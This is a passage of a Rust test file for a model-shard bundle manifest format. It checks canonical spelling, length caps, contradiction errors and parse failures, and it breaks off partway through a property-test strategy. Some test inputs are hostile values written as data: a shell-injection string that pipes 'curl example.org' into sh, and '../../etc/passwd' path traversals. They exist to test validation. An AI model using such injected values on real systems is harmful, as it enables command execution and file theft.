//! The manifest as bytes: it has one canonical form, everything is limited, and every contradiction
//! is reported.

use std::path::Path;

use proptest::prelude::*;
use serde_json::{Value, json};
use shardwright_graph::{ComponentKind, State, StateKind};
use shardwright_vocabulary::{
    ActivationFormat, AttentionFormat, ChosenSpeculation, DType, EntryKind, EntryName, ErrorKind, Flag,
    FlagRecord, FlagVerdict, FormatTuple, Granularity, NodePlacement, Notice, NoticeKind, Pass, PlainName,
    PlannerIdentity, Provenance, Quantisation, Result, Rewrite, RewriteKind, RoleFormat, Segment,
    SegmentFormats, ShardFormats, ShimIdentity, StateFormat, Target, TargetKind, WeightFormat, WeightRole,
    scale_count,
};

use super::*;
use crate::FORMAT_VERSION;
use crate::envelope::seal;

mod schema;

fn file(text: &str) -> FileReference {
    FileReference { sha256: Digest::of(text.as_bytes()), bytes: text.len() as u64 }
}

fn sized(text: &str, bytes: u64) -> FileReference {
    FileReference { sha256: Digest::of(text.as_bytes()), bytes }
}

/// Returns a manifest with an item in every list.
fn sample() -> Manifest {
    let target = |name: &str, kind| Target {
        name: name.to_owned(),
        shim: "neuron".to_owned(),
        device: "mt6989".to_owned(),
        kind,
    };
    let shard = |name: &str, component, layers| ShardEntry {
        name: name.to_owned(),
        segments: Segment { component, layers }.into(),
        target: target("mt6989", TargetKind::Npu),
        compiled_by: ShimIdentity {
            shim: "cpu".to_owned(),
            version: "0.1.0".to_owned(),
            device: "cpu".to_owned(),
            simulated: false,
        },
        formats: FormatTuple {
            weights: WeightFormat::W4Block32,
            roles: vec![RoleFormat { role: WeightRole::MlpOutput, format: WeightFormat::W8PerChannel }],
            activations: ActivationFormat::A16,
            states: StateFormat::F16,
            attention: AttentionFormat::F32,
        }
        .into(),
        entries: ["prefill_8@64", "decode_1@64", "decode_4@64"].map(|name| name.parse().unwrap()).to_vec(),
        artefact: file(name),
        head: file("head"),
        work_order: Digest::of(b"order"),
        load_flags: vec![Flag { name: "power".to_owned(), value: "saver".to_owned() }],
        flags: vec![FlagRecord {
            flag: Flag { name: "opt".to_owned(), value: "3".to_owned() },
            verdict: FlagVerdict::Applied { evidence: "31 kernels, 40 without".to_owned() },
            reason: String::new(),
        }],
        rewritten: vec![Rewrite {
            entry: "decode_1@64".parse().unwrap(),
            name: "layer.0.k".to_owned(),
            rewrite: RewriteKind::ByRuntime,
            reason: "no scatter".to_owned(),
        }],
        logits_softcap: (component == ComponentKind::Head).then_some(30.0),
        placements: vec![NodePlacement {
            entry: "decode_1@64".parse().unwrap(),
            node: "layer.0.norm".to_owned(),
            place: "cpu".to_owned(),
            reason: String::new(),
        }],
    };
    Manifest {
        program: "shardwright 0.1.0".to_owned(),
        model: ModelIdentity {
            name: "demo".to_owned(),
            family: "gemma4".to_owned(),
            checkpoint: Digest::of(b"checkpoint"),
        },
        texts: BTreeMap::from([(TextFile::Tokenizer, file("tokenizer"))]),
        tokenizer_index: Some(file("index")),
        goldens: Some(file("goldens")),
        variants: vec![Variant {
            soc: PlainName::new("mt6989").unwrap(),
            aliases: vec!["MT6989Z".to_owned()],
            calibration: Some(Digest::of(b"calibration")),
            planner: PlannerIdentity {
                name: "generic".to_owned(),
                version: "0.1.0".to_owned(),
                built_in: true,
            },
            options: BTreeMap::from([
                ("context".to_owned(), json!(64)),
                ("limit".to_owned(), json!({"ops": 400})),
                ("tower".to_owned(), json!({"formats": ["stored"]})),
            ]),
            structure: Structure {
                hidden: 4,
                vocabulary: 6,
                context: 512,
                per_layer_width: 0,
                layers: 2,
                components: vec![ComponentKind::Embed, ComponentKind::Decoder, ComponentKind::Head],
                states: vec![State {
                    name: "layer.0.k".to_owned(),
                    layer: 0,
                    width: 4,
                    kind: StateKind::Ring { window: 8 },
                }],
            },
            assets: vec![AssetEntry {
                name: "embedding".to_owned(),
                entries: 6,
                width: 5,
                dtype: DType::I4,
                table: sized("table", 6 * 3),
                quantisation: Some(Quantisation {
                    granularity: Granularity::PerChannel,
                    scale_dtype: DType::F32,
                    scales: sized("scales", 24),
                    zero_point: 0,
                }),
                redirect: vec![(3, 0), (5, 0)],
            }],
            chains: vec![ChainEntry {
                name: "primary".to_owned(),
                emulated_on: Some("cpu".to_owned()),
                within: vec![("ops".to_owned(), 2600)],
                planner: Some(PlannerIdentity {
                    name: "hedging".to_owned(),
                    version: "1.0.0".to_owned(),
                    built_in: false,
                }),
                request: file("request"),
                plan: file("plan"),
                report: Some(file("report")),
                speculation: Some(ChosenSpeculation {
                    draft: "small".to_owned(),
                    rows: 4,
                    gain_thousandths: Some(1180),
                    provenance: Provenance::Modelled,
                    accepted_steps: vec![5, 2, 3],
                }),
                shards: vec![
                    shard("embed", ComponentKind::Embed, (0, 0)),
                    shard("decoder.0-2", ComponentKind::Decoder, (0, 2)),
                    shard("head", ComponentKind::Head, (0, 0)),
                ],
            }],
            towers: vec![TowerEntry {
                pass: Pass::Picture,
                weights: Digest::of(b"weights of the tower"),
                structure: Structure {
                    hidden: 4,
                    vocabulary: 0,
                    context: 630,
                    per_layer_width: 0,
                    layers: 0,
                    components: vec![ComponentKind::VisionEmbed],
                    states: Vec::new(),
                },
                assets: vec![AssetEntry {
                    name: "places".to_owned(),
                    entries: 3,
                    width: 2,
                    dtype: DType::F32,
                    table: sized("places", 24),
                    quantisation: None,
                    redirect: Vec::new(),
                }],
                chains: vec![ChainEntry {
                    name: "picture".to_owned(),
                    emulated_on: None,
                    within: Vec::new(),
                    planner: None,
                    request: file("request of a tower"),
                    plan: file("plan of a tower"),
                    report: None,
                    speculation: None,
                    shards: vec![shard("vision-embed", ComponentKind::VisionEmbed, (0, 0))],
                }],
            }],
            verifications: vec![Verification {
                name: "boundaries".to_owned(),
                chain: "primary".to_owned(),
                passed: true,
                summary: "largest relative error 1.2e-4".to_owned(),
                report: file("verification"),
                twin: Some(TwinEntry {
                    device: "chip.simulated".to_owned(),
                    artefacts: vec![Digest::of(b"twin"); 3],
                    differs: "weights are not shared".to_owned(),
                }),
            }],
            notices: vec![Notice { kind: NoticeKind::Note, text: "nothing".to_owned() }],
        }],
    }
}

const PATH: &str = "demo/bundle.json";

fn written(manifest: &Manifest) -> Result<Vec<u8>> {
    canonical(Path::new(PATH), manifest).map(|(bytes, _)| bytes)
}

fn read(bytes: &[u8]) -> Result<Manifest> {
    parse(Path::new(PATH), bytes).map(|(manifest, _)| manifest)
}

/// Returns a file with a right hash over this JSON.
fn sealed(json: &str) -> Vec<u8> {
    seal(json.as_bytes()).0
}

fn json_of(manifest: &Manifest) -> String {
    serde_json::to_string(manifest).unwrap()
}

#[test]
fn text_files_are_named_as_in_a_checkpoint() {
    let names: Vec<_> = TextFile::ALL.iter().map(|file| file.name()).collect();
    assert!(names.is_sorted(), "the order of members is the order in the manifest");
    for &file in TextFile::ALL {
        assert_eq!(TextFile::from_name(file.name()), Some(file));
        assert_eq!(serde_json::to_string(&file).unwrap(), format!("\"{file}\""));
    }
    for name in ["", "model.safetensors", "../tokenizer.json", "Tokenizer.json"] {
        assert_eq!(TextFile::from_name(name), None);
        assert!(serde_json::from_str::<TextFile>(&format!("\"{name}\"")).is_err());
    }
}

#[test]
fn every_file_is_found_with_the_field_that_names_it() {
    let fields: Vec<_> = sample().references().into_iter().map(|(field, _)| field).collect();
    assert_eq!(
        fields,
        [
            "texts.tokenizer.json",
            "tokenizer_index",
            "goldens",
            "variants[0].assets[0].table",
            "variants[0].assets[0].quantisation.scales",
            "variants[0].chains[0].request",
            "variants[0].chains[0].plan",
            "variants[0].chains[0].report",
            "variants[0].chains[0].shards[0].artefact",
            "variants[0].chains[0].shards[0].head",
            "variants[0].chains[0].shards[1].artefact",
            "variants[0].chains[0].shards[1].head",
            "variants[0].chains[0].shards[2].artefact",
            "variants[0].chains[0].shards[2].head",
            "variants[0].towers[0].assets[0].table",
            "variants[0].towers[0].chains[0].request",
            "variants[0].towers[0].chains[0].plan",
            "variants[0].towers[0].chains[0].shards[0].artefact",
            "variants[0].towers[0].chains[0].shards[0].head",
            "variants[0].verifications[0].report",
        ]
    );
    // The list is complete: it has as many fields as the JSON has lengths.
    assert_eq!(json_of(&sample()).matches("\"bytes\":").count(), fields.len());
}

#[test]
fn every_changed_bit_of_a_manifest_is_refused() {
    let bytes = written(&sample()).unwrap();
    assert_eq!(read(&bytes).unwrap(), sample());
    for offset in 0..bytes.len() {
        for bit in 0..8 {
            let mut changed = bytes.clone();
            changed[offset] ^= 1 << bit;
            let error = read(&changed).unwrap_err();
            assert!(error.to_string().contains(PATH) && error.help().is_some(), "{error}");
        }
    }
    for end in 0..bytes.len() {
        assert!(read(&bytes[..end]).is_err(), "cut at {end}");
    }
}

/// A change to a manifest, with the field that the error must name.
type Mistake = (&'static str, fn(&mut Manifest));

#[test]
fn contradictions_are_refused_by_field_on_writing_and_reading() {
    let mistakes: &[Mistake] = &[
        ("program", |m| m.program.clear()),
        ("model.name", |m| m.model.name = "a\u{1b}[2Jb".to_owned()),
        ("model.family", |m| m.model.family = "a\nb".to_owned()),
        ("variants[0].soc", |m| m.variants[0].soc = PlainName::new("SM8750").unwrap()),
        ("variants[0].planner.name", |m| m.variants[0].planner.name.clear()),
        ("variants[0].planner.version", |m| m.variants[0].planner.version.clear()),
        ("variants[0].options", |m| drop(m.variants[0].options.insert(String::new(), Value::Null))),
        ("variants[0].options.limit", |m| option(m, "limit", json!({"": 1}))),
        ("variants[0].options.limit.a", |m| option(m, "limit", json!({"a": {"b\n": 1}}))),
        ("tokenizer_index", |m| m.texts.clear()),
        ("variants", |m| m.variants.clear()),
        ("variants[1].soc", |m| m.variants.push(m.variants[0].clone())),
        ("variants[0].aliases[1]", |m| m.variants[0].aliases.push(String::new())),
        ("variants[0].structure.states[1].name", |m| {
            let own = &mut m.variants[0];
            own.structure.states.push(own.structure.states[0].clone());
        }),
        ("variants[0].structure.states[0].layer", |m| m.variants[0].structure.states[0].layer = 2),
        ("variants[0].structure.states[0].width", |m| m.variants[0].structure.states[0].width = 0),
        ("variants[0].structure.components", |m| m.variants[0].structure.components.reverse()),
        ("variants[0].structure.components", |m| {
            m.variants[0].structure.components.push(ComponentKind::VisionEmbed)
        }),
        ("variants[0].structure.components", |m| {
            m.variants[0].structure.components.insert(0, ComponentKind::Embed)
        }),
        ("variants[0].assets[1].name", |m| {
            let own = &mut m.variants[0];
            own.assets.push(own.assets[0].clone());
        }),
        ("variants[0].assets[0]", |m| m.variants[0].assets[0].width = 0),
        ("variants[0].assets[0].table", |m| m.variants[0].assets[0].width = 7),
        ("variants[0].assets[0].table", |m| m.variants[0].assets[0].entries = u64::MAX),
        ("variants[0].assets[0].dtype", |m| m.variants[0].assets[0].quantisation = None),
        ("variants[0].assets[0].dtype", |m| {
            m.variants[0].assets[0].dtype = DType::F16;
            m.variants[0].assets[0].table.bytes = 60;
        }),
        ("variants[0].assets[0].quantisation.zero_point", |m| quantisation(m).zero_point = 8),
        ("variants[0].assets[0].quantisation.scale_dtype", |m| quantisation(m).scale_dtype = DType::Bf16),
        ("variants[0].assets[0].quantisation.scales", |m| quantisation(m).scales.bytes = 20),
        ("variants[0].assets[0].quantisation.scales", |m| {
            quantisation(m).granularity = Granularity::blocks(0);
        }),
        ("variants[0].assets[0].redirect", |m| m.variants[0].assets[0].redirect.reverse()),
        ("variants[0].assets[0].redirect", |m| m.variants[0].assets[0].redirect.push((5, 1))),
        ("variants[0].assets[0].redirect", |m| m.variants[0].assets[0].redirect.push((9, 6))),
        ("variants[0].chains", |m| m.variants[0].chains.clear()),
        ("variants[0].chains[1].name", |m| {
            let own = &mut m.variants[0];
            own.chains.push(own.chains[0].clone());
        }),
        ("variants[0].chains[0].emulated_on", |m| m.variants[0].chains[0].emulated_on = Some(String::new())),
        ("variants[0].chains[0].within[0]", |m| m.variants[0].chains[0].within[0].0.clear()),
        ("variants[0].chains[0].planner.name", |m| planner(m).name.clear()),
        ("variants[0].chains[0].planner.version", |m| planner(m).version = "1\n".to_owned()),
        ("variants[0].chains[0].shards", |m| m.variants[0].chains[0].shards.clear()),
        ("variants[0].chains[0].speculation.draft", |m| speculation(m).draft.clear()),
        ("variants[0].chains[0].speculation.rows", |m| speculation(m).rows = 1),
        ("variants[0].chains[0].speculation.rows", |m| speculation(m).rows = 8),
        ("variants[0].chains[0].speculation.rows", |m| {
            m.variants[0].chains[0].shards[2].entries.pop();
        }),
        ("variants[0].chains[0].shards[1].name", |m| {
            m.variants[0].chains[0].shards[1].name = "embed".to_owned()
        }),
        ("variants[0].chains[0].shards[0].segments", |m| {
            shard(m).segments = Segment::whole(ComponentKind::Pooling).into();
        }),
        ("variants[0].chains[0].shards[0].segments", |m| shard(m).segments.0[0].layers = (0, 3)),
        ("variants[0].chains[0].shards[1].segments", |m| {
            m.variants[0].chains[0].shards[1].segments = Segment::decoder(0, 3).into()
        }),
        ("variants[0].chains[0].shards[1].segments", |m| {
            m.variants[0].chains[0].shards[1].segments = Segment::decoder(2, 1).into()
        }),
        ("variants[0].chains[0].shards[0].segments", |m| shard(m).segments.0.clear()),
        ("variants[0].chains[0].shards[0].segments", |m| {
            shard(m).segments.0 = vec![shard(m).segments.0[0]; 2]
        }),
        ("variants[0].chains[0].shards[0].logits_softcap", |m| shard(m).logits_softcap = Some(30.0)),
        ("variants[0].chains[0].shards[1].logits_softcap", |m| {
            m.variants[0].chains[0].shards[1].logits_softcap = Some(0.0)
        }),
        ("variants[0].chains[0].shards[1].logits_softcap", |m| {
            m.variants[0].chains[0].shards[1].logits_softcap = Some(-1.0)
        }),
        ("variants[0].chains[0].shards[0].target.name", |m| shard(m).target.name.clear()),
        ("variants[0].chains[0].shards[0].target.shim", |m| shard(m).target.shim.clear()),
        ("variants[0].chains[0].shards[0].target.device", |m| shard(m).target.device.clear()),
        ("variants[0].chains[0].shards[0].compiled_by.shim", |m| shard(m).compiled_by.shim.clear()),
        ("variants[0].chains[0].shards[0].compiled_by.version", |m| shard(m).compiled_by.version.clear()),
        ("variants[0].chains[0].shards[0].compiled_by.device", |m| shard(m).compiled_by.device.clear()),
        ("variants[0].chains[0].shards[0].formats.roles", |m| {
            let ShardFormats::Uniform(tuple) = &mut shard(m).formats else { panic!("one tuple") };
            tuple.roles.push(tuple.roles[0]);
        }),
        ("variants[0].chains[0].shards[1].formats", |m| mix(m, &[])),
        ("variants[0].chains[0].shards[1].formats", |m| mix(m, &[(0, 2, WeightFormat::W4Block32)])),
        ("variants[0].chains[0].shards[1].formats", |m| {
            mix(m, &[(0, 1, WeightFormat::W4Block32), (2, 3, WeightFormat::W8PerChannel)]);
        }),
        ("variants[0].chains[0].shards[1].formats", |m| {
            mix(m, &[(0, 1, WeightFormat::W8PerChannel), (1, 3, WeightFormat::W4Block32)]);
        }),
        ("variants[0].chains[0].shards[1].formats", |m| {
            mix(m, &[(0, 1, WeightFormat::W4Block32), (1, 2, WeightFormat::W4Block32)]);
        }),
        ("variants[0].chains[0].shards[1].formats", |m| {
            mix(m, &[(0, 1, WeightFormat::W8PerChannel), (1, 2, WeightFormat::W4Block32)]);
            let ShardFormats::Mixed(runs) = &mut m.variants[0].chains[0].shards[1].formats else {
                panic!("a mixture")
            };
            runs[1].formats.states = StateFormat::F32;
        }),
        ("variants[0].chains[0].shards[0].entries", |m| {
            shard(m).entries.push("decode_1@64".parse().unwrap())
        }),
        ("variants[0].chains[0].shards[0].artefact", |m| shard(m).artefact = file("")),
        ("variants[0].chains[0].shards[0].flags[0].flag.name", |m| shard(m).flags[0].flag.name.clear()),
        ("variants[0].chains[0].shards[0].load_flags[0].name", |m| shard(m).load_flags[0].name.clear()),
        ("variants[0].chains[0].shards[0].rewritten[0].name", |m| shard(m).rewritten[0].name.clear()),
        ("variants[0].chains[0].shards[0].placements[0].node", |m| shard(m).placements[0].node.clear()),
        ("variants[0].chains[0].shards[0].placements[0].place", |m| shard(m).placements[0].place.clear()),
        ("variants[0].towers", |m| {
            let own = &mut m.variants[0];
            own.towers.push(own.towers[0].clone());
        }),
        ("variants[0].towers[0].pass", |m| m.variants[0].towers[0].pass = Pass::Step),
        ("variants[0].towers[0].structure.states", |m| {
            m.variants[0].towers[0].structure.layers = 1;
            m.variants[0].towers[0].structure.states = m.variants[0].structure.states.clone();
        }),
        ("variants[0].towers[0].structure.components", |m| m.variants[0].towers[0].pass = Pass::Clip),
        ("variants[0].towers[0].assets[0].table", |m| m.variants[0].towers[0].assets[0].entries = 4),
        ("variants[0].towers[0].chains", |m| m.variants[0].towers[0].chains.clear()),
        ("variants[0].towers[0].chains[0].name", |m| {
            m.variants[0].towers[0].chains[0].name = "primary".to_owned()
        }),
        ("variants[0].towers[0].chains[0].shards[0].segments", |m| {
            m.variants[0].towers[0].chains[0].shards[0].segments = Segment::whole(ComponentKind::Head).into();
        }),
        ("variants[0].verifications[1].name", |m| {
            let own = &mut m.variants[0];
            own.verifications.push(own.verifications[0].clone());
        }),
        ("variants[0].verifications[0].twin", |m| {
            m.variants[0].verifications[0].twin.as_mut().unwrap().artefacts.clear();
        }),
        ("variants[0].verifications[0].chain", |m| m.variants[0].verifications[0].chain = "other".to_owned()),
        ("variants[0].chains[0].plan", |m| m.variants[0].chains[0].plan = sized("request", 8)),
    ];
    for (expected, mistake) in mistakes {
        let mut manifest = sample();
        mistake(&mut manifest);
        // It is neither written nor, with a right hash, read.
        for error in [written(&manifest).unwrap_err(), read(&sealed(&json_of(&manifest))).unwrap_err()] {
            assert_eq!(error.place(), Some(&*format!("{PATH}: {expected}")), "{error}");
            assert!(!error.message().starts_with("expected at most"), "{error}");
            assert!(error.kind() == ErrorKind::Invalid && error.help().is_some());
        }
    }
}

#[test]
fn everything_with_a_length_is_capped() {
    let mistakes: &[Mistake] = &[
        ("variants[0].options", |m| {
            m.variants[0].options = (0..5000).map(|n| (n.to_string(), Value::Null)).collect()
        }),
        ("variants[0].options.context", |m| option(m, "context", long().into())),
        ("variants[0].options.limit", |m| {
            option(m, "limit", (0..5000_u32).map(|n| (n.to_string(), n)).collect())
        }),
        ("variants[0].options.flag.opt", |m| option(m, "flag", json!({"opt": long()}))),
        ("variants[0].options.tower.formats", |m| {
            option(m, "tower", json!({"formats": vec!["stored"; 5000]}))
        }),
        ("variants[0].structure.states", |m| {
            let state = |n: u32| State { name: n.to_string(), ..m.variants[0].structure.states[0].clone() };
            m.variants[0].structure.states = (0..5000).map(state).collect();
        }),
        ("variants[0].structure.components", |m| {
            m.variants[0].structure.components = vec![ComponentKind::Head; 17]
        }),
        ("variants[0].assets", |m| m.variants[0].assets = vec![m.variants[0].assets[0].clone(); 65]),
        ("variants[0].assets[0].redirect", |m| {
            m.variants[0].assets[0].redirect = (0..70_000).map(|token| (token, 0)).collect()
        }),
        ("texts.tokenizer.json", |m| {
            m.texts.insert(TextFile::Tokenizer, sized("tokenizer", TEXT_FILE_BYTES + 1));
        }),
        ("variants[0].chains", |m| m.variants[0].chains = vec![m.variants[0].chains[0].clone(); 17]),
        ("variants[0].chains[0].shards", |m| {
            let first = m.variants[0].chains[0].shards[0].clone();
            m.variants[0].chains[0].shards = vec![first; 1025];
        }),
        ("variants[0].chains[0].shards[0].entries", |m| {
            shard(m).entries = vec!["decode_1@64".parse().unwrap(); 65]
        }),
        ("variants[0].chains[0].speculation.accepted_steps", |m| speculation(m).accepted_steps = vec![0; 65]),
        ("variants[0].chains[0].shards[0].head", |m| {
            shard(m).head = sized("head", (32 << 20) + (64 << 10) + 1)
        }),
        ("variants[0].chains[0].shards[0].flags", |m| {
            let flag = shard(m).flags[0].clone();
            shard(m).flags = vec![flag; 5000];
        }),
        ("variants[0].chains[0].shards[0].load_flags", |m| {
            let flag = shard(m).load_flags[0].clone();
            shard(m).load_flags = vec![flag; 5000];
        }),
        ("variants[0].chains[0].shards[0].load_flags[0].value", |m| shard(m).load_flags[0].value = long()),
        ("variants[0].chains[0].shards[0].flags[0].flag.value", |m| shard(m).flags[0].flag.value = long()),
        ("variants[0].chains[0].shards[0].flags[0].reason", |m| shard(m).flags[0].reason = long()),
        ("variants[0].chains[0].shards[0].flags[0].verdict.evidence", |m| {
            shard(m).flags[0].verdict = FlagVerdict::Applied { evidence: long() };
        }),
        ("variants[0].chains[0].shards[0].rewritten[0].reason", |m| shard(m).rewritten[0].reason = long()),
        ("variants[0].chains[0].shards[0].placements[0].reason", |m| shard(m).placements[0].reason = long()),
        ("variants[0].verifications", |m| {
            m.variants[0].verifications = vec![m.variants[0].verifications[0].clone(); 5000]
        }),
        ("variants[0].verifications[0].summary", |m| m.variants[0].verifications[0].summary = long()),
        ("variants[0].verifications[0].twin.differs", |m| {
            m.variants[0].verifications[0].twin.as_mut().unwrap().differs = long();
        }),
        ("variants[0].notices", |m| m.variants[0].notices = vec![m.variants[0].notices[0].clone(); 5000]),
        ("variants[0].notices[0].text", |m| m.variants[0].notices[0].text = long()),
        ("variants[0].chains[0].request", |m| {
            m.variants[0].chains[0].request = sized("request", FILE_BYTES + 1)
        }),
    ];
    for (expected, mistake) in mistakes {
        let mut manifest = sample();
        mistake(&mut manifest);
        for error in [written(&manifest).unwrap_err(), read(&sealed(&json_of(&manifest))).unwrap_err()] {
            assert_eq!(error.place(), Some(&*format!("{PATH}: {expected}")), "{error}");
            let numbers = error.message().strip_prefix("expected at most ").unwrap_or_default();
            let (limit, value) = numbers.split_once(", got ").unwrap_or_default();
            assert!(value.parse::<u64>().unwrap() > limit.parse::<u64>().unwrap(), "{error}");
            assert!(error.kind() == ErrorKind::Invalid && error.help().is_some());
        }
    }
    let mut manifest = sample();
    let notice = Notice { kind: NoticeKind::Note, text: "x".repeat(TEXT_BYTES_MAX as usize) };
    manifest.variants[0].notices = vec![notice; 300];
    let error = written(&manifest).unwrap_err();
    assert_eq!(error.kind(), ErrorKind::Invalid);
    assert!(error.message().starts_with(&format!("expected at most {MANIFEST_BYTES}, ")), "{error}");
}

fn long() -> String {
    "x".repeat(TEXT_BYTES_MAX as usize + 1)
}

fn option(manifest: &mut Manifest, name: &str, value: Value) {
    manifest.variants[0].options.insert(name.to_owned(), value);
}

fn shard(manifest: &mut Manifest) -> &mut ShardEntry {
    &mut manifest.variants[0].chains[0].shards[0]
}

fn speculation(manifest: &mut Manifest) -> &mut ChosenSpeculation {
    manifest.variants[0].chains[0].speculation.as_mut().unwrap()
}

fn planner(manifest: &mut Manifest) -> &mut PlannerIdentity {
    manifest.variants[0].chains[0].planner.as_mut().unwrap()
}

fn quantisation(manifest: &mut Manifest) -> &mut Quantisation<FileReference> {
    manifest.variants[0].assets[0].quantisation.as_mut().unwrap()
}

#[test]
fn sentences_of_shims_are_kept_as_they_are() {
    let mut manifest = sample();
    manifest.variants[0].notices[0].text = "\u{1b}[31mred\u{0}\n\"quoted\" \\ é\u{2028}".to_owned();
    shard(&mut manifest).flags[0].reason = "\t".to_owned();
    assert_eq!(read(&written(&manifest).unwrap()).unwrap(), manifest);
}

#[test]
fn there_is_one_spelling() {
    let json = json_of(&sample());
    assert_eq!(read(&sealed(&json)).unwrap(), sample());
    let other = |from: &str, to: &str| {
        assert!(json.contains(from), "{from}");
        json.replacen(from, to, 1)
    };
    for changed in [
        other("{\"program\"", "{ \"program\""),
        other("\"soc\":\"mt6989\"", "\"soc\":\"\\u006dt6989\""),
        other("\"hidden\":4", "\"hidden\":4 "),
        other("\"reason\":\"no scatter\"", "\"reason\":\"\""),
        other(
            "\"model\":{\"name\":\"demo\",\"family\":\"gemma4\"",
            "\"model\":{\"family\":\"gemma4\",\"name\":\"demo\"",
        ),
        other("\"ops\":400", "\"ops\":4e2"),
        // Values that the graph crate's types would accept.
        other("\"kind\":\"ring\"", "\"kind\":\"ring\",\"more\":1"),
        format!("{json} "),
        format!("\n{json}"),
    ] {
        let error = read(&sealed(&changed)).unwrap_err();
        let bytes = sealed(&changed);
        let start = bytes.len() - changed.len() - 2;
        let meant: Manifest = serde_json::from_str(&changed).unwrap();
        let equal =
            json_of(&meant).bytes().zip(changed.bytes()).take_while(|(one, other)| one == other).count();
        assert_eq!(error.to_string(), format!("{PATH}: offset {}: not in canonical spelling", start + equal));
        assert!(error.kind() == ErrorKind::Invalid && error.help().is_some());
    }
}

#[test]
fn a_second_key_in_a_map_is_named_with_its_offset() {
    let json = json_of(&sample());
    let (key, twice) = ("\"context\":64", "\"context\":1,\"context\":64");
    assert!(json.contains(key));
    let changed = json.replacen(key, twice, 1);
    // A parser accepts it.
    serde_json::from_str::<Manifest>(&changed).unwrap();
    let bytes = sealed(&changed);
    let error = read(&bytes).unwrap_err();
    assert!(error.kind() == ErrorKind::Invalid && error.help().is_some());
    assert_eq!(error.message(), "a second key `context`");
    let start = bytes.len() - changed.len() - 2;
    let second = start + changed.find(twice).unwrap() + twice.rfind("\"context\"").unwrap();
    let place = error.place().unwrap().strip_prefix(&format!("{PATH}: offset ")).unwrap();
    let place = place.parse::<usize>().unwrap();
    assert!((second..second + "\"context\":".len()).contains(&place), "{place}, {second}");
}

#[test]
fn anything_but_a_manifest_is_refused_with_its_offset() {
    let json = json_of(&sample());
    let other = |from: &str, to: &str| {
        assert!(json.contains(from), "{from}");
        json.replacen(from, to, 1)
    };
    let upper = Digest::of(b"checkpoint").to_string();
    for (changed, said) in [
        (String::new(), "EOF"),
        ("null".to_owned(), "null"),
        ("{}".to_owned(), "missing field"),
        ("[".repeat(100_000), "expected a string"),
        (format!("{{\"program\":{}", "[".repeat(100_000)), "expected a string"),
        (format!("{json}{json}"), "trailing"),
        (other("\"hidden\":4", "\"hidden\":4.0"), "floating point"),
        (other("\"soc\":\"mt6989\"", "\"soc\":\"\""), "not a plain name"),
        (other("\"soc\":\"mt6989\"", "\"soc\":\"/../../victim\""), "not a plain name"),
        (other("\"soc\":\"mt6989\"", "\"soc\":\"x`; curl example.org|sh #\""), "not a plain name"),
        (other("\"hidden\":4", "\"hidden\":-4"), "expected u64"),
        (other("\"hidden\":4", "\"hidden\":18446744073709551616"), "expected u64"),
        (other("\"soc\":", "\"zoc\":"), "unknown field"),
        (other("\"built_in\":true", "\"built_in\":1"), "expected a boolean"),
        (other("\"tokenizer.json\":", "\"../../etc/passwd\":"), "unknown variant"),
        (other("\"entry\":\"decode_1@64\"", "\"entry\":\"decode_01@64\""), "entry point"),
        (other(&upper, &upper.to_uppercase()), "SHA-256"),
        (other(&upper, "../../../etc/passwd"), "SHA-256"),
        (other("\"emulated_on\":\"cpu\"", "\"emulated_on\":\"c\tpu\""), "control character"),
        (other("\"rewrite\":\"by-runtime\"", "\"rewrite\":\"by-magic\""), "unknown variant"),
    ] {
        let bytes = sealed(&changed);
        let error = read(&bytes).unwrap_err();
        assert!(error.message().contains(said), "{said}: {error}");
        let place = error.place().unwrap().strip_prefix(&format!("{PATH}: offset ")).unwrap();
        assert!(place.parse::<usize>().unwrap() < bytes.len() && error.to_string().len() < 500, "{error}");
        assert!(error.kind() == ErrorKind::Invalid && error.help().is_some());
    }
    let next = format!("{{\"shardwright-bundle\":{}", FORMAT_VERSION + 1);
    let error = read(next.as_bytes()).unwrap_err();
    assert_eq!(error.kind(), ErrorKind::Incompatible);
    assert!(error.message().ends_with("got 5") && error.help().is_some(), "{error}");
    for (bytes, offset) in [(&b"{\"a\":1}"[..], 2), (b"PK\x03\x04", 0)] {
        let error = read(bytes).unwrap_err();
        assert!(error.message().ends_with(&format!("wrong first bytes at offset {offset}")), "{error}");
    }
}

fn digest() -> impl Strategy<Value = Digest> {
    any::<[u8; 32]>().prop_map(Digest::from)
}

fn reference() -> impl Strategy<Value = FileReference> {
    (digest(), 1..=60_000_u64).prop_map(|(sha256, bytes)| FileReference { sha256, bytes })
}

fn word() -> impl Strategy<Value = String> {
    "[^\\p{Cc}]{1,12}"
}

fn sentence() -> impl Strategy<Value = String> {
    prop_oneof![Just(String::new()), any::<String>()]
}

fn option_value() -> impl Strategy<Value = Value> {
    prop_oneof![
        any::<u64>().prop_map(Value::from),
        sentence().prop_map(Value::from),
        proptest::collection::vec(any::<u32>(), 0..3).prop_map(Value::from),
        proptest::collection::btree_map(word(), sentence(), 0..3).prop_map(|members| json!(members)),
    ]
}

fn one_of<T: Copy + std::fmt::Debug + 'static>(all: &'static [T]) -> impl Strategy<Value = T> {
    (0..all.len()).prop_map(|index| all[index])
}

fn entry_name() -> impl Strategy<Value = EntryName> {
    prop_oneof![
        (1..=u32::MAX).prop_map(|rows| format!("encode_{rows}")),
        (1..=u32::MAX, 1..=u32::MAX).prop_map(|(rows, context)| format!("decode_{rows}@{context}")),
        (1..=u32::MAX, 1..=u32::MAX).prop_map(|(rows, context)| format!("prefill_{rows}@{context}")),
    ]
    .prop_map(|name| name.parse().unwrap())
}

fn verdict() -> impl Strategy<Value = FlagVerdict> {
    prop_oneof![
        sentence().prop_map(|evidence| FlagVerdict::Applied { evidence }),
        Just(FlagVerdict::Recorded),
        Just(FlagVerdict::Inert),
        Just(FlagVerdict::Refused),
        Just(FlagVerdict::Unknown),
    ]
}

fn asset_entry(index: usize) -> impl Strategy<Value = AssetEntry> {
    let granularity = prop_oneof![
        Just(Granularity::PerTensor),
        Just(Granularity::PerChannel),
        (1..=64_u32, proptest::bool::ANY).prop_map(|(size, minimum)| Granularity::PerBlock { size, minimum }),
    ];
    let scales = (granularity, one_of(&[DType::F32, DType::F16]), digest(), -2..=1_i32);
    (1..=50_u64, 1..=50_u64, one_of(DType::ALL), digest(), scales).prop_map(
        move |(entries, width, dtype, sha256, (granularity, scale_dtype, scales, zero_point))| {
            let shape = [entries, width];
            let dtype = if dtype.is_float() || dtype.raw_range().is_some() { dtype } else { DType::F32 };
            let quantisation = dtype.raw_range().map(|(low, _)| Quantisation {
                granularity,
                scale_dtype,
                scales: FileReference {
                    sha256: scales,
                    bytes: scale_count(granularity, &shape).unwrap() * scale_dtype.bytes(),
                },
                zero_point: zero_point.max(low),
            });
